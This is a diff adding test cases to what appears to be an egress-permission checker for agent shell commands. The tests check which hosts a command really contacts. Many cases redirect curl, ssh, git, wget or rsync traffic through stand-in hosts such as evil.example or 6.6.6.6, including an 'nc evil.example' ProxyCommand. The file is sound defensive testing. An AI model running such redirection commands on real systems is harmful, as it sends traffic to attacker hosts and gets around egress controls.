@@ -1044,6 +1044,266 @@ const cases: {
     call: bash("ssh -i key git@github.com"),
     asks: ["network.egress Host:github.com"],
   },
+  // egress: the host a client really connects to (resolve, connect-to, proxies, jump hosts)
+  {
+    name: "curl --resolve sends an allowed host's request to another address",
+    call: bash("curl --resolve registry.npmjs.org:443:6.6.6.6 https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:6.6.6.6"],
+  },
+  {
+    name: "curl --resolve=+host:port:addr,addr (IPv6 too)",
+    call: bash(
+      "curl --resolve=+registry.npmjs.org:443:[2001:db8::1],6.6.6.6 https://registry.npmjs.org/x",
+    ),
+    asks: [
+      "network.egress Host:registry.npmjs.org",
+      "network.egress Host:2001:db8::1",
+      "network.egress Host:6.6.6.6",
+    ],
+  },
+  {
+    name: "curl --connect-to sends an allowed host's request elsewhere",
+    call: bash(
+      "curl --connect-to registry.npmjs.org:443:evil.example:443 https://registry.npmjs.org/x",
+    ),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:evil.example"],
+  },
+  {
+    name: "curl -x with a bare host:port proxy (in a cluster)",
+    call: bash("curl -sSx corp-proxy:3128 https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:corp-proxy"],
+  },
+  {
+    name: "curl --proxy user:password@host: the host only, never the password",
+    call: bash("curl --proxy user:s3cret@proxy.example:3128 https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:proxy.example"],
+  },
+  {
+    name: "curl --preproxy and --socks5-hostname",
+    call: bash(
+      "curl --preproxy relay:1080 --socks5-hostname tor:9050 https://registry.npmjs.org/x",
+    ),
+    asks: [
+      "network.egress Host:registry.npmjs.org",
+      "network.egress Host:relay",
+      "network.egress Host:tor",
+    ],
+  },
+  {
+    name: "curl --proxy through a variable is unresolved; an empty proxy is none",
+    call: bash('curl --proxy "$P" https://registry.npmjs.org/x && curl -x "" https://pypi.org/x'),
+    asks: [
+      "network.egress Host:registry.npmjs.org",
+      "network.egress Host:unresolved.invalid",
+      "network.egress Host:pypi.org",
+    ],
+  },
+  {
+    name: "curl --dns-servers asks the resolvers too",
+    call: bash("curl --dns-servers 6.6.6.6,7.7.7.7:53 https://registry.npmjs.org/x"),
+    asks: [
+      "network.egress Host:registry.npmjs.org",
+      "network.egress Host:6.6.6.6",
+      "network.egress Host:7.7.7.7",
+    ],
+  },
+  {
+    name: "wget -e https_proxy=host:port",
+    call: bash(
+      "wget -q -e use_proxy=yes -e https_proxy=proxy.example:3128 https://registry.npmjs.org/x",
+    ),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:proxy.example", W],
+  },
+  {
+    name: "wget --execute=HTTPS-Proxy= (wgetrc commands ignore case, _ and -)",
+    call: bash("wget -O- --execute=HTTPS-Proxy=relay:8080 https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:relay", W],
+  },
+  {
+    name: "a proxy variable before the client",
+    call: bash("https_proxy=proxy.example:3128 curl https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:proxy.example", "network.egress Host:registry.npmjs.org"],
+  },
+  {
+    name: "HTTPS_PROXY and ALL_PROXY before a package manager, through env",
+    call: bash("HTTPS_PROXY=http://u:p@relay:8080 env ALL_PROXY=socks5h://tor:9050 npm install x"),
+    asks: [
+      "network.egress Host:relay",
+      "network.egress Host:tor",
+      "network.egress Host:registry.npmjs.org",
+    ],
+  },
+  {
+    name: "an exported proxy variable, a proxy through a variable, and no_proxy (not a proxy)",
+    call: bash(
+      'export HTTPS_PROXY=relay:8080 NO_PROXY=internal.example; http_proxy="$P" curl https://pypi.org/x',
+    ),
+    asks: [
+      "network.egress Host:relay",
+      "network.egress Host:unresolved.invalid",
+      "network.egress Host:pypi.org",
+      "command.run Path:.",
+    ],
+  },
+  {
+    name: "a loopback proxy (the runner's own egress proxy) is local",
+    call: bash("https_proxy=http://127.0.0.1:3128 curl https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org"],
+  },
+  {
+    name: "ssh -J jump hosts",
+    call: bash("ssh -J admin@bastion.example,relay:2222 git@github.com"),
+    asks: [
+      "network.egress Host:github.com",
+      "network.egress Host:bastion.example",
+      "network.egress Host:relay",
+    ],
+  },
+  {
+    name: "ssh -o ProxyJump= and -oHostName=",
+    call: bash("ssh -o ProxyJump=evil.example -oHostName=6.6.6.6 github.com"),
+    asks: [
+      "network.egress Host:github.com",
+      "network.egress Host:evil.example",
+      "network.egress Host:6.6.6.6",
+    ],
+  },
+  {
+    name: "ssh -o 'ProxyCommand …' connects through a command: unknown",
+    call: bash("ssh -o 'ProxyCommand nc evil.example 22' -T git@github.com"),
+    asks: ["network.egress Host:github.com", "network.egress Host:unknown.invalid"],
+  },
+  {
+    name: "ssh -F a config file can name any host: unknown (not -F /dev/null)",
+    call: bash("ssh -F ./ssh_config git@github.com && ssh -F /dev/null -vT git@github.com"),
+    asks: ["network.egress Host:github.com", "network.egress Host:unknown.invalid"],
+  },
+  {
+    name: "ssh options in a cluster are not the destination",
+    call: bash("ssh -vi key -p 2222 git@github.com"),
+    asks: ["network.egress Host:github.com"],
+  },
+  {
+    name: "scp -J and -o ProxyJump",
+    call: bash("scp -J bastion.example -o ProxyJump=relay a.txt deploy@web.example:/srv/"),
+    asks: [
+      "network.egress Host:web.example",
+      "network.egress Host:bastion.example",
+      "network.egress Host:relay",
+    ],
+  },
+  {
+    name: "git -c http.proxy= with a URL remote",
+    call: bash("git -c http.proxy=proxy.example:3128 clone https://github.com/acme/lib"),
+    asks: ["network.egress Host:proxy.example", "network.egress Host:github.com"],
+  },
+  {
+    name: "git -c http.curloptResolve, and url.….insteadOf to another host, on a remote name",
+    call: bash(
+      "git -c http.curloptResolve=github.com:443:6.6.6.6 -c url.https://evil.example/.insteadOf=https://github.com/ fetch origin",
+    ),
+    asks: ["network.egress Host:6.6.6.6", "network.egress Host:evil.example", "command.run Path:."],
+  },
+  {
+    name: "git -c core.sshCommand with a jump host",
+    call: bash("git -c core.sshCommand='ssh -J evil.example' clone git@github.com:acme/lib.git"),
+    asks: ["network.egress Host:evil.example", "network.egress Host:github.com"],
+  },
+  // egress: options read as the client reads them
+  {
+    name: "curl -sSLo FILE: the file is not a host",
+    call: bash("curl -sSLo ci.yml https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org"],
+  },
+  {
+    name: "curl -K reads options (URLs, proxies) from a file: unknown",
+    call: bash("curl -K extra.conf https://registry.npmjs.org/x"),
+    asks: ["network.egress Host:registry.npmjs.org", "network.egress Host:unknown.invalid", W],
+  },
+  {
+    name: "curl --url @file reads URLs from a file: unknown",
+    call: bash("curl --url @urls.txt"),
+    asks: ["network.egress Host:unknown.invalid", W],
+  },
+  {
+    name: "curl --expand-url from a curl variable: unresolved",
+    call: bash("curl --variable u@urls.txt --expand-url '{{u}}'"),
+    asks: ["network.egress Host:unresolved.invalid"],
+  },
+  {
+    name: "wget -i reads URLs from a file: unknown, not a host named urls.txt",
+    call: bash("wget -i urls.txt"),
+    asks: ["network.egress Host:unknown.invalid", W],
+  },
+  {
+    name: "wget -e input= and --config read URLs from a file: unknown",
+    call: bash(
+      "wget --config=ci.wgetrc https://pypi.org/x && wget -e input=urls.txt https://pypi.org/y",
+    ),
+    asks: ["network.egress Host:pypi.org", "network.egress Host:unknown.invalid", W],
+  },
+  // egress: a copy with no remote side is a local copy (its writes decided as writes)
+  {
+    name: "rsync and scp between local paths are local runs",
+    call: bash("rsync -a --exclude node_modules src/ build/ && scp a.txt ./b:c"),
+    asks: ["command.run Path:."],
+  },
+  {
+    name: "rsync between local paths into a workflow is the write it is, not egress",
+    call: bash("rsync -a ci.yml .github/workflows/"),
+    asks: [W, "command.run Path:."],
+    paths: [".github/workflows/ci.yml"],
+  },
+  {
+    name: "rsync to a host without a dot, a daemon, and rsync://",
+    call: bash(
+      "rsync -a deploy@ci:/srv/app/ build/ && rsync mirror::pub/ a/ && rsync -a rsync://m.example:873/pub/ b/",
+    ),
+    asks: ["network.egress Host:ci", "network.egress Host:mirror", "network.egress Host:m.example"],
+  },
+  {
+    name: "rsync -e 'ssh -J …' and a remote shell that is not ssh",
+    call: bash(
+      "rsync -av -e 'ssh -p 2222 -J bastion.example' dist/ deploy@web.example:/srv/ && rsync --rsh=./connect dist/ web.example:/srv/",
+    ),
+    asks: [
+      "network.egress Host:web.example",
+      "network.egress Host:bastion.example",
+      "network.egress Host:unknown.invalid",
+    ],
+  },
+  {
+    name: "GIT_SSH_COMMAND with a jump host, GIT_PROXY_COMMAND a program",
+    call: bash(
+      "GIT_SSH_COMMAND='ssh -o ProxyJump=evil.example' git fetch origin && GIT_PROXY_COMMAND=./p git fetch origin",
+    ),
+    asks: [
+      "network.egress Host:evil.example",
+      "network.egress Host:unknown.invalid",
+      "command.run Path:.",
+    ],
+  },
+  {
+    name: "git --config-env http.proxy from the environment: unresolved",
+    call: bash("git --config-env=http.proxy=EVIL_PROXY ls-remote https://github.com/acme/lib"),
+    asks: ["network.egress Host:unresolved.invalid", "network.egress Host:github.com"],
+  },
+  {
+    name: "a copy operand named through a variable could be remote: unresolved",
+    // (What lands in build/ is named by a variable too: a write leash decides.)
+    call: bash('rsync -a "$SRC" build/ && rsync -a ./"$F" build/'),
+    asks: ["network.egress Host:unresolved.invalid", W, "command.run Path:."],
+  },
+  {
+    name: "nc -x proxy",
+    call: bash("nc -X connect -x relay:3128 github.com 22"),
+    asks: ["network.egress Host:github.com", "network.egress Host:relay"],
+  },
+  {
+    name: "openssl s_client -connect names its host",
+    call: bash("openssl s_client -connect evil.example:443 </dev/null"),
+    asks: ["network.egress Host:evil.example"],
+  },
   {
     name: "node -e fetch",
     call: bash("node -e 'fetch(\"https://x.example/a\")'"),
